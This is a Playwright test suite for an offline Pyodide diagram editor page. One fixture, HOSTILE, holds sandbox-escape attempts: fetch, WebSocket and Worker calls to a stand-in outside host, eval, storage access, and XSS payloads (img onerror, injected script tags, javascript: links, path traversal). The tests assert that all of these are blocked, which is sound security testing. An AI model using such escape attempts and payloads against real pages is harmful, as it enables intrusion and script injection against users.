"""The page that edits pictures, in one browser with the network cut: what it runs, saves and keeps out."""

from __future__ import annotations

import gzip
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import accessibility
import pytest
from conftest import Site
from drawn import PROJECT, catalog
from PIL import Image, ImageChops, ImageStat
from playwright.sync_api import Browser, Locator, Page, Request, Route, expect
from project import PATIENCE

from kit.facts import load
from kit.importing.reading import read
from kit.site.editor import runtime

ROOT = Path(__file__).resolve().parents[2]
FACTS = load(ROOT / "docs" / "facts")
SLUGS = list(catalog().pictures)
SMALL = """from diagrams.aws.compute import Lambda

from kit import Diagram

with Diagram("{title}", alt="A function."):
    Lambda("{label}")
"""
# What the page makes an address of is kept, since its policy lets nothing be fetched of one.
KEEP = """
window.blobs = new Map();
const make = URL.createObjectURL;
URL.createObjectURL = (blob) => { const url = make(blob); window.blobs.set(url, blob); return url; };
"""
ANSWERS = """addEventListener("message", ({ data }) => {
  if (data.answer?.pictures) window.drawn = data.answer;
});"""
# In the place of Python, whose start costs seconds: a worker that tells what Python has told.
PARROT = """self.onmessage = ({{ data: {{ id, job }} }}) =>
  postMessage({{ id, answer: job === "run" ? {0} : null }});"""
DRAWN = "() => new Promise((seen) => requestAnimationFrame(() => requestAnimationFrame(seen)))"
SHIFTS = """new PerformanceObserver((list) => {
  for (const { value } of list.getEntries()) window.moved = (window.moved ?? 0) + value;
}).observe({ type: "layout-shift", buffered: true });"""


@dataclass
class Editor:
    """The page, and all that went wrong or was asked of anyone while it was used."""

    page: Page
    url: str
    moved: float = 0  # how far what stood there moved while the first picture came
    answer: str = ""  # what Python told of it, as JSON
    faults: list[str] = field(default_factory=list)

    def open(self, slug: str) -> None:
        self.page.get_by_role("combobox", name="Picture").select_option(slug)

    def write(self, text: str) -> None:
        """Put `text` in the place of the script, as a reader pastes it."""
        self.page.locator(".cm-content").click()
        self.page.keyboard.press("Control+a")
        self.page.keyboard.insert_text(text)

    def drawn(self, title: str) -> None:
        expect(self.page.locator("figcaption")).to_have_text(title)
        expect(self.page.locator("#fault")).to_be_hidden()

    @property
    def svg(self) -> str:
        """The SVG that is shown."""
        return str(self.page.locator("#stage img").evaluate("image => window.blobs.get(image.src).text()"))

    @property
    def fault(self) -> Locator:
        return self.page.locator("#fault")

    def saved(self, label: str) -> tuple[str, bytes]:
        """Name and content of what a button saves."""
        with self.page.expect_download() as waiting:
            self.page.get_by_role("button", name=label, exact=True).click()
        return waiting.value.suggested_filename, Path(waiting.value.path()).read_bytes()


@pytest.fixture(scope="module")
def opened(chromium: Browser, site: Site) -> Iterator[Editor]:
    """The page, opened once: Python starts once for all tests."""
    context = chromium.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light")
    context.set_default_timeout(PATIENCE * 1000)
    context.add_init_script(KEEP)
    context.add_init_script(ANSWERS)
    context.add_init_script(SHIFTS)
    page = context.new_page()
    editor = Editor(page, f"{site.url}diagrams/edit/index.html")

    def asked(request: Request) -> None:
        if not request.url.startswith((site.url, "blob:", "data:")):
            editor.faults.append(request.url)

    page.on("request", asked)
    page.on("console", lambda line: line.type in ("error", "warning") and editor.faults.append(line.text))
    page.on("pageerror", lambda error: editor.faults.append(str(error)))
    page.goto(f"{editor.url}?picture=commit-gate")
    editor.moved = _moved(page)
    editor.answer = page.evaluate("JSON.stringify(window.drawn)")
    yield editor
    context.close()


def _moved(page: Page) -> float:
    """How far things moved until the first picture was there."""
    expect(page.locator("#stage figure")).to_be_visible()
    page.wait_for_function("() => document.querySelector('#stage img').complete")
    page.evaluate(DRAWN)
    return float(page.evaluate("window.moved ?? 0"))


@pytest.fixture
def editor(opened: Editor) -> Iterator[Editor]:
    """The same, of which nothing may go wrong."""
    opened.faults.clear()
    opened.page.set_viewport_size({"width": 1280, "height": 800})
    yield opened
    assert opened.faults == []


def test_every_picture_is_that_of_the_build(editor: Editor, site: Site) -> None:
    wrong = []
    for slug in SLUGS:
        editor.open(slug)
        expect(editor.page.locator("#stage img")).to_be_visible()
        editor.drawn(catalog().pictures[slug].spec.title)
        if editor.svg.encode() != (site.folder / "diagrams" / f"{slug}.svg").read_bytes():
            wrong.append(slug)
    assert wrong == []


def test_a_change_is_drawn_with_its_steps_and_its_text(editor: Editor) -> None:
    editor.open("one-writer")
    text = SMALL.format(title="Mine", label="Orders").replace(
        "from kit import", "from kit import Step, cite,"
    )
    step = "It writes within {cite('global.lag.typical')} <b>."
    editor.write(f'{text}    Step(f"{step}", at=Lambda("B"), fails="It waits.")\n')
    editor.drawn("Mine")
    item = editor.page.locator("#stage li")
    expect(item).to_contain_text("<b>. If not: It waits.")
    assert "facts/index.html#global.lag.typical" in (item.locator("a").get_attribute("href") or "")
    editor.page.get_by_text("What a screen reader says").click()
    expect(editor.page.locator("#stage details p")).to_contain_text("A function.")
    assert "changed</dc:source>" in editor.svg and "<dc:relation>" not in editor.svg
    editor.page.get_by_role("button", name="Start over").click()
    editor.drawn("The name leads to one writer, in one Region at a time")


def test_a_mistake_names_line_cause_and_cure(editor: Editor) -> None:
    editor.open("your-own")
    editor.drawn("A function writes to its database")
    editor.write(SMALL.format(title="Mine", label="Orders") + '    Lambda("A") >> Edge("x", kind="wirte")\n')
    expect(editor.fault).to_contain_text("NameError: name 'Edge' is not defined")
    expect(editor.page.get_by_role("status")).to_contain_text("Line 7: NameError")
    expect(editor.page.locator(".c-fault")).to_contain_text("wirte")
    expect(editor.page.locator("figcaption")).to_have_text("A function writes to its database")
    editor.fault.get_by_role("button", name="Line 7").click()
    expect(editor.page.locator(".cm-activeLine")).to_contain_text("wirte")
    text = SMALL.format(title="Mine", label="Orders").replace("import Diagram", "import Diagram, Edge")
    editor.write(text + '    Lambda("A") >> Edge("x", kind="wirte") >> Lambda("B")\n')
    expect(editor.fault).to_contain_text("no kind of edge 'wirte'")
    expect(editor.fault).to_contain_text("One of: ")
    editor.write(text)
    editor.drawn("Mine")
    expect(editor.page.locator(".c-fault")).to_have_count(0)


def test_a_link_holds_the_script(editor: Editor) -> None:
    editor.open("one-writer")
    editor.write(SMALL.format(title="Shared – with π", label="Orders"))
    editor.drawn("Shared – with π")
    editor.page.get_by_role("button", name="Copy link").click()
    expect(editor.page.get_by_role("status")).to_contain_text(re.compile("link|address"))
    link = editor.page.url
    assert re.search(r"\?picture=one-writer#[\w-]{50,}$", link)
    editor.open("failover")
    expect(editor.page.locator("#shared")).to_be_hidden()
    editor.open("one-writer")
    editor.drawn("The name leads to one writer, in one Region at a time")
    editor.page.goto(link)  # only what follows # differs: the page stays
    editor.drawn("Shared – with π")
    expect(editor.page.locator("#shared")).to_be_visible()
    editor.page.goto(link[:-20])
    editor.drawn("The name leads to one writer, in one Region at a time")
    expect(editor.page.get_by_text("The link is not whole")).to_be_visible()
    expect(editor.page.locator("#shared")).to_be_hidden()


@pytest.mark.parametrize(
    ("label", "name"),
    [
        ("SVG, light", "failover.svg"),
        ("SVG, dark", "failover.dark.svg"),
        ("SVG, the reader’s theme", "failover.auto.svg"),
        ("SVG for a phone", "failover.narrow.svg"),
        ("draw.io", "failover.drawio"),
        ("Mermaid", "failover.mmd"),
        ("Script", "failover.py"),
    ],
)
def test_a_file_is_that_of_the_site(editor: Editor, site: Site, label: str, name: str) -> None:
    editor.open("failover")
    editor.drawn(catalog().pictures["failover"].spec.title)
    assert editor.saved(label) == (name, (site.folder / "diagrams" / name).read_bytes())


@pytest.mark.parametrize(("label", "name"), [("PNG 4K, dark", "dark.png"), ("PNG 4K, on white", "white.png")])
def test_a_png_looks_as_that_of_the_site(editor: Editor, site: Site, label: str, name: str) -> None:
    editor.open("failover")
    editor.drawn(catalog().pictures["failover"].spec.title)
    told, content = editor.saved(label)
    assert told == f"failover.{name}"
    images = []
    for each in (content, (site.folder / "diagrams" / told).read_bytes()):
        with Image.open(io.BytesIO(each)) as image:
            assert image.size == (3840, 2160)
            images.append(image.convert("RGBA").resize((480, 270), Image.Resampling.BOX))
    assert max(ImageStat.Stat(ImageChops.difference(*images)).mean) < 3


HOSTILE = """
import js
from pyodide.code import run_js
from pyodide.ffi import to_js

AWAY = "https://elsewhere.example/"
WorkerScope = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))
for attempt in (
    lambda: run_js("postMessage({ ran: true })"),
    lambda: js.eval("1"),
    lambda: WorkerScope.fetch.call(js.self, AWAY),
    lambda: WorkerScope.fetch.call(js.self, "{site}facts.json"),
    lambda: js.Reflect.get(WorkerScope, "fetch").call(js.self, AWAY),
    lambda: js.WebSocket.new("wss://elsewhere.example/"),
    lambda: js.EventSource.new(AWAY),
    lambda: js.Worker.new(AWAY),
    lambda: asks(js.XMLHttpRequest.new()),
    lambda: js.indexedDB.open("kept"),
    lambda: js.caches.open("kept"),
    lambda: setattr(js.document, "title", "taken"),
):
    try:
        attempt()
    except BaseException:
        pass

def asks(request):
    request.open("GET", AWAY, False)
    request.send()

script = "onload='top.taken=1'><script>top.taken=1</script>"
svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' {script}</svg>"
text = "<img src=x onerror='window.taken=1'>"
picture = {
    "slug": text, "title": text, "alt": text, "name": "../x", "svg": svg, "notes": [text], "formats": ["svg"],
    "steps": [{"number": text, "text": text + "[a](fact:javascript:taken)", "fails": text}],
    "table": {"head": [text], "rows": [[text, text]]},
}
for id in range(500):  # as if it were the answer
    js.postMessage(to_js({"id": id, "answer": {"pictures": [picture]}}, dict_converter=js.Object.fromEntries))
"""


def test_a_hostile_script_gets_nowhere(editor: Editor, site: Site) -> None:
    """It can make its own reader's page show nonsense, and no more."""
    asked: list[Request] = []
    note = lambda request: asked.append(request)  # noqa: E731, PLW0108  (it wants a function of Python)
    editor.page.on("request", note)
    editor.open("your-own")
    editor.write(HOSTILE.replace("{site}", site.url))
    expect(editor.page.locator("figcaption")).to_have_text("<img src=x onerror='window.taken=1'>")
    hrefs = editor.page.locator("#stage a").evaluate_all("links => links.map((link) => link.protocol)")
    assert set(hrefs) == {"http:"}
    editor.open("one-writer")
    editor.drawn("The name leads to one writer, in one Region at a time")
    editor.page.remove_listener("request", note)  # by now all that was tried has been told
    asked[:] = [request for request in asked if not request.url.startswith("blob:")]
    assert editor.page.evaluate("window.taken") is None
    assert editor.page.title().startswith("Edit a picture")
    assert {request.failure for request in asked} == {"csp"}, "nobody was asked, not even this site"
    said = [fault for fault in editor.faults if not fault.startswith("http")]
    assert not any("taken" in fault for fault in said)
    editor.faults.clear()


@pytest.mark.parametrize("mask", [False, True])
@pytest.mark.parametrize(
    "names",
    ["global.json global-shop-us.json global-shop-eu.json", "proxies.json", "shop.template.yaml",
     "global-plan.json", "shop.dac.yaml"],
)  # fmt: skip
def test_your_own_cluster_is_drawn(editor: Editor, names: str, mask: bool) -> None:
    files = [ROOT / "tests" / "data" / "imports" / name for name in names.split()]
    wanted = read({file.name: file.read_text("utf-8") for file in files}, mask=mask, facts=FACTS)
    fold = editor.page.locator("#import")
    fold.evaluate("fold => { fold.open = true }")
    editor.page.locator("#chosen").set_input_files(files)
    editor.page.get_by_label("Mask names and account ids").set_checked(mask)
    editor.page.get_by_role("button", name="Draw it").click()
    editor.page.locator("#chosen").set_input_files([])
    (title,) = re.findall(r'Diagram\(\s*"(.*?)"', wanted.script)
    editor.drawn(title)
    assert editor.saved("Script") == ("your_own.py", wanted.script.encode())
    told = editor.page.locator("#notes li")
    assert told.count() == len(wanted.notes) + len(wanted.unknown)
    for note in wanted.notes:
        expect(told.filter(has_text=str(note))).not_to_have_count(0)


def test_what_is_none_of_these_is_told(editor: Editor) -> None:
    editor.page.locator("#import").evaluate("fold => { fold.open = true }")
    editor.page.get_by_label("What they say").fill("services:\n  db:\n    image: postgres\n")
    editor.page.get_by_role("button", name="Draw it").click()
    expect(editor.fault).to_contain_text("pasted: this looks like a Compose file")
    expect(editor.fault).to_contain_text("what terraform show -json prints")
    accessibility.check(editor.page)
    editor.page.get_by_label("What they say").fill("")


def test_the_keyboard_gets_in_and_out(editor: Editor) -> None:
    editor.open("one-writer")
    typed = editor.page.locator(".cm-content")
    typed.click()
    editor.page.keyboard.press("Control+Home")
    editor.page.keyboard.press("Tab")
    expect(editor.page.locator(".cm-line").first).to_have_text(re.compile("^    "))
    editor.page.keyboard.press("Escape")
    editor.page.keyboard.press("Tab")
    expect(typed).not_to_be_focused()
    assert "keys" in (typed.get_attribute("aria-describedby") or "")
    expect(editor.page.locator("#keys")).to_contain_text("press Esc, then Tab")


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_accessible_and_fits(editor: Editor, width: int, scheme: str) -> None:
    editor.page.set_viewport_size({"width": width, "height": 844})
    editor.page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    editor.open("capacity-following-load")  # with a table
    editor.drawn(catalog().pictures["capacity-following-load"].spec.title)
    assert editor.page.evaluate("document.documentElement.scrollWidth") == width
    accessibility.check(editor.page)
    editor.write("x")
    expect(editor.fault).to_be_visible()
    accessibility.check(editor.page)
    assert editor.page.evaluate("document.documentElement.scrollWidth") == width
    editor.page.emulate_media(color_scheme="light")


def test_a_loop_without_an_end_is_stopped(editor: Editor) -> None:
    editor.open("one-writer")
    editor.drawn("The name leads to one writer, in one Region at a time")
    editor.page.clock.install()  # or a core would be busy for ten seconds
    editor.write("while True:\n    pass\n")
    expect(editor.page.locator("#stage")).to_have_attribute("aria-busy", "true")  # and its time has begun
    editor.page.clock.fast_forward(10_000)
    expect(editor.fault).to_contain_text("still ran after 10 s, and was stopped")
    editor.write(SMALL.format(title="Alive", label="Orders"))
    editor.drawn("Alive")


def test_nothing_more_is_loaded_than_nine_megabytes(site: Site) -> None:
    files = [path for path in (site.folder / "diagrams" / "edit").iterdir() if path.name[:8] != "LICENSES"]
    assert sum(len(gzip.compress(path.read_bytes(), 6)) for path in files) <= 9_000_000


def test_pictures_link_to_it_and_load_none_of_it(site: Site) -> None:
    page = (site.folder / "global-database" / "index.html").read_text("utf-8")
    assert page.count("diagrams/edit/?picture=") == page.count('class="kit-use"') > 0
    assert "pyodide" not in page


def test_without_pyodide_there_is_no_page_and_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from kit.site.editor import page

    monkeypatch.setattr("shutil.which", lambda *_, **__: None)
    uncached = replace(catalog(), project=replace(PROJECT, cache=tmp_path))
    with caplog.at_level("WARNING", "kit"):
        assert page.files(uncached) == {}
    assert caplog.messages == [
        "Built without the page that edits pictures: Pyodide: there is no npm to fetch it."
    ]


def test_another_file_than_is_pinned_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runtime, "_unpacked", lambda _: dict.fromkeys(runtime.FILES, b"another"))
    monkeypatch.setattr("subprocess.run", lambda *_, cwd, **__: (Path(cwd) / "pyodide.tgz").touch())
    monkeypatch.setattr("shutil.which", lambda *_, **__: "npm")
    with pytest.raises(Exception, match="another file than is pinned"):
        runtime.files(tmp_path)


def test_nothing_moves_while_the_editor_comes(opened: Editor, chromium: Browser) -> None:
    """On a desk, as the page came first for all these tests, and on a phone, which is told the same."""
    assert opened.moved <= 0.02
    context = chromium.new_context(viewport={"width": 412, "height": 800})
    context.set_default_timeout(PATIENCE * 1000)
    context.add_init_script(SHIFTS)
    asked: list[Route] = []
    context.route("**/edit/worker.*.js", lambda route: asked.append(route))  # noqa: PLW0108  (as above)
    page = context.new_page()
    with page.expect_request("**/edit/worker.*.js"):
        page.goto(f"{opened.url}?picture=commit-gate")
    page.evaluate(DRAWN)  # the page alone, as Python is slower than that
    asked[0].fulfill(body=PARROT.format(opened.answer))
    assert _moved(page) <= 0.02
    context.close()
